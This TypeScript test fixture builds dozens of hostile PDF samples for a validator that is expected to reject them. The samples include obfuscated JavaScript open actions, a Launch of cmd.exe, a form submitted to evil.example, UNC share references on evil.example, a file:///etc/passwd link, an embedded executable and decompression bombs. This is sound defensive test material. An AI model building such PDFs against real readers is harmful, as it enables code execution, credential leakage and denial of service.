import { deflateSync } from 'node:zlib'
import { pdfOf, streamOf, type PdfParts } from './writer'

export type Hostile = readonly [what: string, make: () => Buffer, why: RegExp]

const SCRIPT = '/S /JavaScript /JS (app.alert\\(1\\))'
const active = /scripts, actions or interactive content/
const attachment = /contains another file/
const encrypted = /encrypted/
const unreadable = /damaged or cannot be checked/
const complex = /too complex/

const hostilePdf = (description: string, parts: PdfParts, why = active): Hostile => [description, () => pdfOf(parts), why]
const annotated = (annotation: string): PdfParts => ({ page: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${annotation} >>]` })
const linked = (address: string): PdfParts => annotated(`/Subtype /Link /A << /S /URI /URI ${address} >>`)
const changed =
  (change: (text: string) => string, parts: PdfParts = {}) =>
  () =>
    Buffer.from(change(pdfOf(parts).toString('latin1')), 'latin1')

const actions: readonly Hostile[] = [
  hostilePdf('a script on opening', { catalog: `/OpenAction << ${SCRIPT} >>` }),
  hostilePdf('a script in an object of its own', { catalog: '/OpenAction 5 0 R', objects: { 5: `<< ${SCRIPT} >>` } }),
  hostilePdf('a script among its names', { catalog: `/Names << /JavaScript << /Names [(a) << ${SCRIPT} >>] >> >>` }),
  hostilePdf('a script whose name has hex digits', { catalog: '/OpenAction << /S /J#61vaScript /#4aS (app.alert\\(1\\)) >>' }),
  hostilePdf('a script whose name has only hex digits', {
    catalog: `/OpenAction << /S /${[...'JavaScript'].map((letter) => `#${letter.charCodeAt(0).toString(16)}`).join('')} >>`,
  }),
  hostilePdf('a script in a stream', {
    catalog: '/OpenAction << /S /JavaScript /JS 5 0 R >>',
    objects: { 5: streamOf('', 'app.alert(1)') },
  }),
  hostilePdf('a script when a page is opened', { page: `/AA << /O << ${SCRIPT} >> >>` }),
  hostilePdf('a script in a form field', { catalog: `/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /K << ${SCRIPT} >> >> >>] >>` }),
  hostilePdf('a script as the step after a harmless one', {
    catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> << ${SCRIPT} >>] >>`,
  }),
  hostilePdf('a script in an outline entry', { catalog: `/Outlines << /First << /Title (a) /A << ${SCRIPT} >> >> >>` }),
  hostilePdf('a script key of an unknown action', { catalog: '/OpenAction << /S /Rendered /JS (app.alert\\(1\\)) >>' }),
  hostilePdf('a program to launch', annotated('/Subtype /Link /A << /S /Launch /F (cmd.exe) >>')),
  hostilePdf('a program to launch on Windows', { catalog: '/OpenAction << /S /L#61unch /Win << /F (cmd.exe) /P (/c calc) >> >>' }),
  hostilePdf('a form that is sent', annotated('/Subtype /Widget /FT /Btn /A << /S /SubmitForm /F (https://evil.example) >>')),
  hostilePdf('data that is imported', annotated('/Subtype /Widget /A << /S /ImportData /F (data.fdf) >>')),
  hostilePdf('a jump into another file', annotated('/Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>')),
  hostilePdf('a jump into an embedded file', annotated('/Subtype /Link /A << /S /GoToE /D [0 /Fit] >>')),
  hostilePdf('a rendition', annotated('/Subtype /Screen /A << /S /Rendition /OP 0 >>')),
  hostilePdf('a film', annotated('/Subtype /Movie /Movie << /F (a.avi) >>')),
  hostilePdf('a sound', { catalog: '/OpenAction << /S /Sound /Sound 5 0 R >>' }),
  hostilePdf('rich media', annotated('/Subtype /RichMedia')),
  hostilePdf('a scene in three dimensions', annotated('/Subtype /3D')),
  hostilePdf('a form of the XFA kind', {
    catalog: '/AcroForm << /Fields [] /XFA [(template) 5 0 R] >>',
    objects: { 5: streamOf('', '<xdp/>') },
  }),
  hostilePdf('printing on opening', { catalog: '/OpenAction << /S /Named /N /Print >>' }),
  hostilePdf('printing on opening, in an object of its own', { catalog: '/OpenAction 5 0 R', objects: { 5: '<< /S /Named /N /Print >>' } }),
  hostilePdf('printing on opening, in a compressed object', {
    catalog: '/OpenAction 5 0 R',
    objects: { 5: '<< /S /Named /N /Print >>' },
    compressed: true,
  }),
  hostilePdf('printing as the step after a harmless one, in an object of its own', {
    catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>',
    objects: { 5: '<< /S /Named /N /Print >>' },
  }),
  hostilePdf('printing on a click, in an object of its own', {
    ...annotated('/Subtype /Link /A 5 0 R'),
    objects: { 5: '<< /S /Named /N /Print >>' },
  }),
  hostilePdf('printing when a page is opened, in an object of its own', {
    page: '/AA << /O 5 0 R >>',
    objects: { 5: '<< /S /Named /N /Print >>' },
  }),
  hostilePdf('printing when a page is opened, in a set of its own', {
    page: '/AA 5 0 R',
    objects: { 5: '<< /O << /S /Named /N /Print >> >>' },
  }),
  hostilePdf('printing when a page is opened, in a set of references of its own', {
    page: '/AA 5 0 R',
    objects: { 5: '<< /Type /Note /O 6 0 R >>', 6: '<< /S /Named /N /Print >>' },
  }),
  hostilePdf('an action of no known kind, in an object of its own', { catalog: '/OpenAction 5 0 R', objects: { 5: '<< /S /Whatever >>' } }),
  hostilePdf(
    'steps after an action that are a list of its own',
    { catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>', objects: { 5: '[<< /S /Named /N /Print >>]' } },
    unreadable,
  ),
  hostilePdf(
    'an action behind two references',
    { catalog: '/OpenAction 5 0 R', objects: { 5: '6 0 R', 6: '<< /S /Named /N /Print >>' } },
    unreadable,
  ),
  hostilePdf('an action of no known kind', { catalog: '/OpenAction << /S /Whatever >>' }),
]

const addresses: readonly Hostile[] = [
  hostilePdf('a link to a script', linked('(javascript:alert\\(1\\))')),
  hostilePdf('a link to a script in capitals, with a line break', linked('(JaVa\\nScRiPt:alert\\(1\\))')),
  hostilePdf('a link to a script in octal digits', linked('(\\152\\141vascript:alert\\(1\\))')),
  hostilePdf('a link to a script in hex digits', linked(`<${Buffer.from('javascript:alert(1)').toString('hex')}>`)),
  hostilePdf('a link to a script in UTF-16', linked(`<feff${Buffer.from('javascript:alert(1)', 'utf16le').swap16().toString('hex')}>`)),
  hostilePdf('a link to a file', linked('(file:///etc/passwd)')),
  hostilePdf('a base of links that is a script', { catalog: '/URI << /Base (javascript:) >>' }),
  hostilePdf('a link whose address stands elsewhere', { ...linked('5 0 R'), objects: { 5: '(javascript:alert\\(1\\))' } }, unreadable),
]

const files: readonly Hostile[] = [
  hostilePdf(
    'an embedded file',
    {
      catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /EF << /F 5 0 R >> >>] >> >>',
      objects: { 5: streamOf('/Type /EmbeddedFile', 'MZ') },
    },
    attachment,
  ),
  hostilePdf(
    'an embedded file without its type',
    { catalog: '/AF [<< /F (a.exe) /EF << /F 5 0 R >> >>]', objects: { 5: streamOf('', 'MZ') } },
    attachment,
  ),
  hostilePdf('a file as a note', annotated('/Subtype /FileAttachment'), attachment),
  hostilePdf('a collection of files', { catalog: '/Collection << /View /T >>' }, attachment),
  hostilePdf('a file behind a web address', { objects: { 5: '<< /FS /URL /F (https://evil.example/a.exe) >>' } }),
  hostilePdf('a stream that is read from another file', { objects: { 5: streamOf('/F (\\\\\\\\evil.example\\\\a)', '') } }),
  hostilePdf('a page of another document', { objects: { 5: streamOf('/Type /XObject /Subtype /Form /Ref << /F (b.pdf) /Page 0 >>', '') } }),
]

const streams: readonly Hostile[] = [
  hostilePdf('a script in an object stream', { compressed: true, catalog: `/OpenAction << ${SCRIPT} >>` }),
  hostilePdf('a script in an object stream with escaped names', { compressed: true, catalog: '/OpenAction << /S /#4a#61vaScript >>' }),
  hostilePdf('an object stream whose type is escaped', {
    compressed: true,
    catalog: `/OpenAction << ${SCRIPT} >>`,
    packed: ({ dictionary, body }) => ({ dictionary: dictionary.replace('/ObjStm', '/#4fbjStm').replace('/First', '/#46irst'), body }),
  }),
  hostilePdf('an object stream without a type', {
    compressed: true,
    catalog: `/OpenAction << ${SCRIPT} >>`,
    packed: ({ dictionary, body }) => ({ dictionary: dictionary.replace('/Type /ObjStm', ''), body }),
  }),
  hostilePdf('an object stream behind a padded dictionary', {
    compressed: true,
    catalog: `/OpenAction << ${SCRIPT} >>`,
    packed: ({ dictionary, body }) => ({ dictionary: `${dictionary} /Padding (${'x'.repeat(9000)})`, body }),
  }),
  hostilePdf(
    'an object stream that is encoded twice',
    {
      compressed: true,
      packed: ({ dictionary, body }) => ({
        dictionary: dictionary.replace('/FlateDecode', '[/FlateDecode /FlateDecode]'),
        body: deflateSync(body),
      }),
    },
    unreadable,
  ),
  hostilePdf(
    'an object stream in another encoding',
    {
      compressed: true,
      packed: ({ dictionary, body }) => ({
        dictionary: dictionary.replace('/FlateDecode', '/ASCIIHexDecode'),
        body: Buffer.from(`${body.toString('hex')}>`),
      }),
    },
    unreadable,
  ),
  hostilePdf(
    'an object stream with an object that it does not count',
    {
      compressed: true,
      packed: ({ dictionary, body }) => ({ dictionary: dictionary.replace(/\/N \d+/, '/N 1'), body }),
    },
    unreadable,
  ),
  hostilePdf(
    'an object stream that inflates a thousandfold',
    {
      compressed: true,
      packed: ({ dictionary, body }) => ({ dictionary, body: Buffer.concat([body, Buffer.alloc(64 * 1024 * 1024, 32)]) }),
    },
    complex,
  ),
  hostilePdf('objects nested ten thousand deep', { objects: { 5: '['.repeat(10_000) + ']'.repeat(10_000) } }, complex),
  hostilePdf('an object of a million numbers', { objects: { 5: `[${'0 '.repeat(1_000_000)}]` } }, complex),
]

const structure: readonly Hostile[] = [
  hostilePdf('an object inside a stream', { objects: { 5: streamOf('', `\n9 0 obj\n<< ${SCRIPT} >>\nendobj\n`) } }, unreadable),
  hostilePdf(
    'an object inside a stream, with a comment between its words',
    { objects: { 5: streamOf('', `\n9 %${'x'.repeat(3000)}\n 0\n%\nobj << ${SCRIPT} >>`) } },
    unreadable,
  ),
  hostilePdf('an object inside a string', { objects: { 5: `(9 0 obj << ${SCRIPT.replace(/[()]/g, '')} >> endobj)` } }, unreadable),
  hostilePdf('an object inside a comment', { after: `% 9 0 obj << ${SCRIPT} >> endobj\n` }, unreadable),
  hostilePdf(
    'a trailer inside a stream',
    { objects: { 5: streamOf('', `\ntrailer << /Root << /OpenAction << ${SCRIPT} >> >> >>`) } },
    unreadable,
  ),
  [
    'an object that a later revision replaces',
    changed((text) => text.replace('1 0 obj', `1 0 obj\n<< ${SCRIPT} >>\nendobj\n1 0 obj`)),
    active,
  ],
  hostilePdf('a key that stands there twice', { catalog: '/OpenAction [3 0 R /Fit] /OpenAction null' }, unreadable),
  hostilePdf('an action whose kind stands elsewhere', { catalog: '/OpenAction << /S 5 0 R >>', objects: { 5: '/JavaScript' } }),
  hostilePdf('an action whose kind is hidden behind two references', { objects: { 5: '<< /S 6 0 R >>', 6: '7 0 R' } }, unreadable),
  ['a stream that is longer than it says', changed((text) => text.replace(/\/Length (\d+)/, '/Length 10')), unreadable],
  [
    'a stream whose length, elsewhere, is wrong',
    changed((text) => text.replace(/\/Length \d+/, '/Length 5 0 R'), { objects: { 5: '10' } }),
    unreadable,
  ],
  hostilePdf('encryption', { trailer: '/Encrypt 9 0 R /ID [<00> <00>]' }, encrypted),
  hostilePdf('encryption in a cross-reference stream', { compressed: true, trailer: '/#45ncrypt << /Filter /Standard >>' }, encrypted),
  ['half of it', () => pdfOf().subarray(0, 400), unreadable],
  ['no end', changed((text) => text.replace('%%EOF', '')), unreadable],
  ['no cross-references', changed((text) => text.replace(/xref[\s\S]*$/, '%%EOF\n')), unreadable],
  ['cross-references elsewhere', changed((text) => text.replace(/startxref\n\d+/, 'startxref\n20')), unreadable],
  hostilePdf('no catalog', { trailer: '/Other true', catalog: '/Type2 /X', objects: { 1: '<< /Type /Other >>' } }, unreadable),
  hostilePdf('a catalog that is none', { objects: { 1: '<< /Type /Catalog >>' } }, unreadable),
  hostilePdf('a second header', { after: '%PDF-1.4\n' }, attachment),
  hostilePdf('a PDF inside', { objects: { 5: streamOf('', pdfOf()) } }, unreadable),
  ['a second PDF behind it', () => Buffer.concat([pdfOf(), pdfOf()]), attachment],
  hostilePdf('an archive behind it', { after: 'PK\x03\x04 PK\x01\x02 PK\x05\x06' }, unreadable),
  hostilePdf('an archive inside', { objects: { 5: streamOf('', 'PK\x03\x04 PK\x01\x02 PK\x05\x06') } }, attachment),
  hostilePdf('a page with a script in a comment', { after: '%<script>alert(1)</script>\n' }),
  hostilePdf('a page with a script behind it', { after: '<script>alert(1)</script>' }, unreadable),
  hostilePdf('eight thousand letters of comments', { after: `%${'x'.repeat(9000)}\n` }, unreadable),
  hostilePdf('another header', { header: '%PDF-9.9\n' }, unreadable),
  hostilePdf('something before the first object', { header: '%PDF-1.7\nMZ\x90\n' }, unreadable),
]

/** PDFs that some readers open, each with one feature that must be rejected. */
export const hostile: readonly Hostile[] = [...actions, ...addresses, ...files, ...streams, ...structure]
